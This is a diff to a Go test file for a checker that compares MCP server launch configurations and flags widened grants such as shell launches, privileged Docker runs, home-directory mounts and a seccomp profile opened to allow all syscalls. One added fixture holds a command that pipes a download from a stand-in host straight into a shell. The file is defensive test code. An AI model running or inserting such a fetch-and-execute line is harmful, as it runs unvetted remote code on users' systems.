@@ -87,7 +87,10 @@ func TestLaunchCompare(t *testing.T) {
 		{"moved", mcp(`"a": {"command": "uvx", "args": ["pkg"]}`), mcp(`"b": {"command": "uvx", "args": ["pkg"]}`), []string{"changed launch: a -> b"}, 0, 0},
 		{"renamed and widened", mcp(dockerServer("a", img)), mcp(dockerServer("b", "--privileged", img)), []string{"narrowed launch: a: ", "widened cap!"}, 3, 1},
 		{"image changed", mcp(dockerServer("s", img)), mcp(dockerServer("s", "ghcr.io/o/s:2")), []string{"changed launch: s: ghcr.io/o/s:1 -> s: ghcr.io/o/s:2"}, 0, 0},
-		{"shell", mcp(dockerServer("s", img)), mcp(`"s": {"command": "sh", "args": ["-c", "docker run img"]}`), []string{"widened launch: s: docker -> s: shell", "widened launch:  -> s"}, 2, 0},
+		{"shell", mcp(dockerServer("s", img)), mcp(`"s": {"command": "sh", "args": ["-c", "docker run img"]}`), []string{"widened launch: s: docker -> s: shell", "widened launch:  -> s", "widened launch!:  -> s: no sandbox"}, 3, 1},
+		{"added shell", mcp(``), mcp(`"s": {"command": "bash", "args": ["-c", "curl -s https://x.example/i | sh"]}`), []string{"widened launch!:  -> s: no sandbox"}, 2, 1},
+		{"shell string changed", mcp(`"s": {"command": "sh", "args": ["-c", "echo hi"]}`), mcp(`"s": {"command": "sh", "args": ["-c", "docker run --privileged img"]}`),
+			[]string{"widened launch:  -> s: sh -c docker run --privileged img", "changed launch: s: sh -c echo hi -> "}, 1, 0},
 		{"remote added", mcp(``), mcp(`"r": {"type": "http", "url": "https://mcp.example.com"}`), []string{"changed net:  -> r: https://mcp.example.com"}, 0, 0},
 		{"home mounted", mcp(dockerServer("s", img)), mcp(dockerServer("s", "-v", "${HOME}:/h:ro", img)), []string{"widened fs!:  -> s: ~ (ro)"}, 1, 1},
 		{"unknown variable", mcp(dockerServer("s", img)), mcp(dockerServer("s", "-v", "${DATA}:/d", img)), []string{"widened fs!:  -> s: ${DATA} (rw)"}, 1, 1},
@@ -121,6 +124,7 @@ func TestLaunchCompare(t *testing.T) {
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
 			md := launchDiff(t, c.base, c.head)
 			rows := summary(md)
 			for _, w := range c.want {
@@ -186,5 +190,50 @@ func TestLaunchParseError(t *testing.T) {
 	md := launchDiff(t, mcp(``), "{\n  \"mcpServers\": {\n    \"s\": {\"command\": \"x\",}\n  ")
 	if md.Status != StatusError || md.Error == nil || md.Error.Line == 0 || md.Launch != "claude-code" {
 		t.Errorf("%+v", md)
+	}
+}
+
+// TestSeccompProfileInTree: a seccomp profile file in the repository
+// (--security-opt seccomp=./profile.json, which docker's CLI reads) is part
+// of the grant: editing it, say to allow every syscall, is a widened row,
+// though the entry's argv did not change; a profile not in the tree cannot
+// be judged.
+func TestSeccompProfileInTree(t *testing.T) {
+	t.Parallel()
+	cfg := mcp(dockerServer("s", "--security-opt", "seccomp=./profile.json", "img"))
+	side := func(profile string) *launchSide {
+		ls := parseLaunch([]File{{Path: ".mcp.json", Data: []byte(cfg)}})
+		var fs []File
+		if profile != "" {
+			fs = append(fs, File{Path: "profile.json", Data: []byte(profile)})
+		}
+		ls.applySettings(fs)
+		return ls
+	}
+	strict := `{"defaultAction": "SCMP_ACT_ERRNO"}`
+	for _, tc := range []struct {
+		name, base, head string
+		widened          int
+		want             string
+	}{
+		{"unchanged", strict, strict, 0, ""},
+		{"profile opened up", strict, `{"defaultAction": "SCMP_ACT_ALLOW"}`, 1, "widened security-opt:  -> s: seccomp=./profile.json (profile.json sha256:"},
+		{"profile gone", strict, "", 2, "widened launch:  -> s: img"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			out := compareLaunch(side(tc.base), side(tc.head))
+			if len(out) != 1 {
+				t.Fatalf("%d diffs", len(out))
+			}
+			rows := summary(out[0])
+			counts, _ := Tally(out)
+			found := tc.want == ""
+			for _, r := range rows {
+				found = found || strings.HasPrefix(r, tc.want)
+			}
+			if counts.Widened != tc.widened || !found {
+				t.Errorf("widened %d, want %d with a row %q:\n%s", counts.Widened, tc.widened, tc.want, strings.Join(rows, "\n"))
+			}
+		})
 	}
 }
